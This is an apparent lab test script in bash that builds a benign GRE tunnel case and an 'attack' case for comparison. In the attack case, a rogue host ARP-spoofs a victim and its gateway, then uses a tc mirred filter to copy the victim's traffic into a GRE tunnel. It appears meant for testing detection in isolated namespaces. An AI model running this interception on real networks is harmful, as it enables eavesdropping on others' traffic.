#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
#
# tc mirrors what a relay gets into a GRE tunnel.
# Twin: a tenant's own GRE tunnel.
set -u
# shellcheck source-path=SCRIPTDIR source=site.sh
. "$(dirname "$0")/site.sh"

CASE=vxlan_mirror

overlay() { # HOST LOCAL REMOTE INNER
	ip -n "$(lab_ns "$1")" link add ov0 type gretap local "$2" remote "$3"
	ip -n "$(lab_ns "$1")" addr add "$4" dev ov0
	ip -n "$(lab_ns "$1")" link set ov0 up
}

needs() {
	ip link add bhgre type gretap local 192.0.2.1 remote 192.0.2.2 2>/dev/null ||
		echo "this kernel has no GRE"
	ip link del bhgre 2>/dev/null || :
}

twin() {
	overlay r1 203.0.113.71 203.0.113.72 192.168.90.1/24
	overlay r2 203.0.113.72 203.0.113.71 192.168.90.2/24
	lab_in r1 ping -q -c 12 -i 0.2 -s 300 192.168.90.2 >/dev/null
	site_web r2 192.168.90.2
	for _ in 1 2 3; do
		lab_in r1 curl -s -m 2 -o /dev/null http://192.168.90.2/file
	done
	sleep 1
}

attack() {
	site_web rim 192.0.2.200
	site_router_on t1
	overlay t1 203.0.113.120 203.0.113.121 192.168.91.1/24
	lab_in t1 tc qdisc add dev eth0 clsact
	lab_in t1 tc filter add dev eth0 ingress protocol ip u32 match ip src 203.0.113.71/32 \
		action mirred egress mirror dev ov0
	site_life r1 http://192.0.2.200/file s1 http://192.0.2.200/file
	lab_start t1 "$LAB_DIR/tool.log" arpspoof -i eth0 -t 203.0.113.71 -r 203.0.113.65
	site_await 14 relay.forward relay.tunnel
}

site_run gre_mirror tern span arpspoof
